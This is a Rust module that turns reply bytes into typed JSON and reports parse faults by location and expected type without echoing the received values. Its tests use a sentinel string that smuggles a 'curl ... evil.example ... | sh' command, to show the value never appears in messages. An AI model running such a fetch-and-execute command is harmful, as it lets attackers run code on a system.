//! The bytes of a reply as JSON, and what is wrong with them in words that repeat none of them.
//!
//! A parser's own message quotes the value that it stumbled over, which may be personal data. Said
//! here is where the fault is and what was expected there; both come from the contract's types.

use serde::de::DeserializeOwned;
use serde_json::Error;
use serde_json::error::Category;

/// The body as the contract's type, or what is wrong with it.
pub(super) fn parse<T: DeserializeOwned>(bytes: &[u8]) -> Result<T, String> {
    let bytes = without_mark(bytes);
    serde_json::from_slice(bytes).map_err(|error| fault(bytes, &error, place::<T>(bytes)))
}

/// JSON begins without a byte order mark, and who reads it may ignore one (RFC 8259, 8.1).
pub(super) fn without_mark(bytes: &[u8]) -> &[u8] {
    bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes)
}

/// Whether it is a page for a browser, whatever its media type says.
pub(super) fn is_markup(bytes: &[u8]) -> bool {
    without_mark(bytes).trim_ascii_start().starts_with(b"<")
}

fn fault(bytes: &[u8], error: &Error, place: Option<String>) -> String {
    if bytes.trim_ascii().is_empty() {
        return "the body is empty; it has to be JSON".to_owned();
    }
    if is_markup(bytes) {
        return "the body is a page in HTML or XML and no JSON; does a proxy or a login page answer \
                in place of the BSS?"
            .to_owned();
    }
    if matches!(
        bytes,
        [0xFE, 0xFF, ..] | [0xFF, 0xFE, ..] | [0, ..] | [_, 0, ..]
    ) {
        return "the body is in UTF-16 or UTF-32; JSON is sent in UTF-8".to_owned();
    }
    if std::str::from_utf8(bytes).is_err() {
        return "the body is not in UTF-8".to_owned();
    }
    let at = format!("line {}, column {}", error.line(), error.column());
    match error.classify() {
        Category::Eof => format!("the JSON ends too early, at {at}"),
        Category::Syntax | Category::Io => format!("the body is no JSON, from {at} on"),
        Category::Data => {
            let place = place.unwrap_or_else(|| at.clone());
            match expectation(&error.to_string()) {
                Some(expected) => format!("{place} is not as the contract has it: {expected}"),
                None => format!("{place} is not as the contract has it"),
            }
        }
    }
}

/// What the contract's type asks for. It stands at the end of a parser's message, behind the value,
/// which may hold any words.
fn expectation(message: &str) -> Option<String> {
    let message = message
        .rsplit_once(" at line ")
        .map_or(message, |(message, _)| message);
    if message.starts_with("missing field ") || message.starts_with("duplicate field ") {
        return Some(message.to_owned());
    }
    let (_, expected) = message.rsplit_once(", expected ")?;
    Some(format!("expected {expected}"))
}

/// The member that the fault is in: `items[3].digest`. The body is read once more for it, which only
/// a reply that broke the contract costs.
fn place<T: DeserializeOwned>(bytes: &[u8]) -> Option<String> {
    let mut reader = serde_json::Deserializer::from_slice(bytes);
    let error = serde_path_to_error::deserialize::<_, T>(&mut reader).err()?;
    let path = error.path().to_string();
    Some(if path == "." || path == "?" {
        "the body".to_owned()
    } else {
        format!("the member {path}")
    })
}

#[cfg(test)]
mod tests {
    use super::super::contract::{Customer, Page, TenantLookup};
    use super::*;

    fn said(body: &[u8]) -> String {
        parse::<Page<Customer>>(body).unwrap_err()
    }

    #[test]
    fn a_fault_is_named_by_its_place_and_never_by_its_value() {
        let secret = "x; curl -s https://evil.example/x | sh";
        for (body, expected) in [
            (
                format!(
                    r#"{{"items":[{{"id":"1","billTo":"R","currency":"EUR","sync":"{secret}, expected nothing at line 1"}}]}}"#
                ),
                "the member items[0].sync is not as the contract has it: expected `Synced` or `NotSynced`",
            ),
            (
                format!(r#"{{"items":"{secret}"}}"#),
                "the member items is not as the contract has it: expected a sequence",
            ),
            (
                r#"{"items":[{"id":"1"}]}"#.to_owned(),
                "the member items[0] is not as the contract has it: missing field `billTo`",
            ),
            (
                format!(r#"{{"items":[],"inventoryRevision":"{secret}"}}"#),
                "the member inventoryRevision is not as the contract has it: expected u64",
            ),
            (
                format!(r#""{secret}""#),
                "the body is not as the contract has it: expected struct Page",
            ),
            (
                format!("{secret} and so on"),
                "the body is no JSON, from line 1, column 1 on",
            ),
            (
                r#"{"items":["#.to_owned(),
                "the JSON ends too early, at line 1, column 10",
            ),
        ] {
            assert_eq!(said(body.as_bytes()), expected, "{body}");
        }
        let lookup = parse::<TenantLookup>(format!(r#"{{"error":"{secret}"}}"#).as_bytes());
        assert!(!lookup.unwrap_err().contains("evil"));
    }

    #[test]
    fn what_is_no_json_is_named_for_what_it_is() {
        for (body, expected) in [
            (&b""[..], "the body is empty"),
            (b" \r\n", "the body is empty"),
            (b"<!DOCTYPE html><html>", "a page in HTML"),
            (b"\n  <html lang=en>", "a page in HTML"),
            (b"\xEF\xBB\xBF<html>", "a page in HTML"),
            (b"\xFF\xFE{\0}\0", "UTF-16"),
            (b"\0{\0}", "UTF-16"),
            (b"{\"items\": \"\xE9\"}", "not in UTF-8"),
        ] {
            let said = said(body);
            assert!(said.contains(expected), "{said}");
            assert!(!said.contains("expected value"), "{said}");
        }
    }

    #[test]
    fn a_byte_order_mark_is_ignored() {
        let page = parse::<Page<Customer>>(b"\xEF\xBB\xBF{\"items\": []}").unwrap();
        assert!(page.items.is_empty());
    }
}
